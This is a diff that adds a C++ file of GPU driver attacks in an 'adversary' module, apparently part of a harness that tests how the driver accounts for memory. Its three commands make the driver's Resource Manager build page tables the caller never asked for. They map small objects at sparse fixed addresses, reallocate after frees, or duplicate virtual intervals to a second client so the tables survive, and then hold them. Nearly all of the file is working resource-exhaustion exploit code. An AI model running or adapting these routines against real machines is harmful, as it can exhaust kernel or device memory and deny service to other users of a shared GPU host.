@@ -1,0 +1,128 @@
+// Attacks by GPU mappings that RM makes itself: page tables, which nobody asked for.
+#include "common.h"
+#include "rm/vidmem.h"
+
+namespace cgpu::adversary {
+namespace {
+
+constexpr std::uint64_t kBase = std::uint64_t{1} << 40;
+
+// A range anywhere in the device's address space.
+std::uint32_t MakeRange(Client& client) {
+  const std::uint32_t range = client.next++;
+  rm::NV_MEMORY_VIRTUAL_ALLOCATION_PARAMS params{};
+  params.limit = (std::uint64_t{1} << 47) - 1;
+  if (client.Alloc(Client::kDevice, range, rm::NV01_MEMORY_VIRTUAL, &params, sizeof(params)) !=
+      rm::NV_OK) {
+    Die("no range of addresses");
+  }
+  return range;
+}
+
+std::uint32_t MapAt(const Client& client, std::uint32_t range, std::uint32_t memory,
+                    std::uint64_t address) {
+  rm::NVOS46_PARAMETERS_V535 map{};
+  map.hClient = client.root;
+  map.hDevice = Client::kDevice;
+  map.hDma = range;
+  map.hMemory = memory;
+  map.length = rm::kPage4K;
+  map.flags = rm::NVOS46_FLAGS_PAGE_SIZE_4KB << 8 | 1U << 15;  // at a fixed address
+  map.dmaOffset = address;
+  if (client.issue(client.ctl, rm::NV_ESC_RM_MAP_MEMORY_DMA, &map, sizeof(map)) != 0) {
+    return kNoAnswer;
+  }
+  return map.status;
+}
+
+// One small object at every second MiB, until refused or `mib` MiB of tables are there.
+std::uint64_t Spread(const Client& client, std::uint32_t range, std::uint32_t memory,
+                     std::uint64_t mib) {
+  const std::uint64_t wanted = mib * kMiB / rm::kPage4K;
+  std::uint64_t tables = 0;
+  while (tables < wanted &&
+         MapAt(client, range, memory, kBase + tables * rm::kPageHuge) == rm::NV_OK) {
+    ++tables;
+  }
+  return tables;
+}
+
+int DmaTables(const std::vector<std::string>& args) {
+  Client client = MakeClient();
+  std::uint32_t memory = 0;
+  if (client.AllocMemory(1, &memory) != rm::NV_OK) {
+    Die("no memory");
+  }
+  const std::uint64_t mib = Number(args, 0, 24);
+  const std::uint64_t tables = Spread(client, MakeRange(client), memory, mib);
+  Say("tables %llu", static_cast<unsigned long long>(tables));
+  Hold();
+  return 0;
+}
+
+// The same: and everything can be had again, whether the range goes or the memory.
+int DmaTablesAgain(const std::vector<std::string>& args) {
+  Client client = MakeClient();
+  const std::uint64_t mib = Number(args, 0, 24);
+  std::uint32_t memory = 0;
+  std::uint32_t range = MakeRange(client);
+  for (int turn = 0; turn < 3; ++turn) {
+    if (memory == 0 && client.AllocMemory(1, &memory) != rm::NV_OK) {
+      Die("no memory");
+    }
+    const std::uint64_t tables = Spread(client, range, memory, mib);
+    Say("tables %llu", static_cast<unsigned long long>(tables));
+    if (turn == 0) {
+      if (client.Free(range) != rm::NV_OK) {
+        Die("cannot free the range");
+      }
+      range = MakeRange(client);
+    } else if (turn == 1) {
+      if (client.Free(memory) != rm::NV_OK) {
+        Die("cannot free the memory");
+      }
+      memory = 0;
+    }
+  }
+  Hold();
+  return 0;
+}
+
+// Intervals of addresses, which have their tables from the start, and whose duplicates keep them.
+int Intervals(const std::vector<std::string>& args) {
+  const std::uint64_t wanted = Number(args, 0, 24) * kMiB;
+  Client client = MakeClient();
+  Client keeper = MakeClient();
+  constexpr std::uint64_t kLength = std::uint64_t{1} << 30;  // 2 MiB of tables
+  std::uint64_t tables = 0;
+  while (tables < wanted) {
+    const std::uint32_t handle = client.next++;
+    rm::NV_MEMORY_ALLOCATION_PARAMS params{};
+    params.size = kLength;
+    params.flags = rm::NVOS32_ALLOC_FLAGS_VIRTUAL;
+    if (client.Alloc(Client::kDevice, handle, rm::NV50_MEMORY_VIRTUAL, &params, sizeof(params)) !=
+        rm::NV_OK) {
+      break;
+    }
+    if (keeper.Dup(client.root, handle, keeper.next++) != rm::NV_OK ||
+        client.Free(handle) != rm::NV_OK) {
+      Die("cannot hand the interval on");
+    }
+    tables += kLength / rm::kPageHuge * rm::kPage4K;
+  }
+  Say("tables %llu", static_cast<unsigned long long>(tables / rm::kPage4K));
+  Hold();
+  return 0;
+}
+
+}  // namespace
+
+std::vector<Entry> MappingAttacks() {
+  return {
+      {"dma-tables", DmaTables, "[MIB]"},
+      {"dma-tables-again", DmaTablesAgain, "[MIB]"},
+      {"intervals", Intervals, "[MIB]"},
+  };
+}
+
+}  // namespace cgpu::adversary
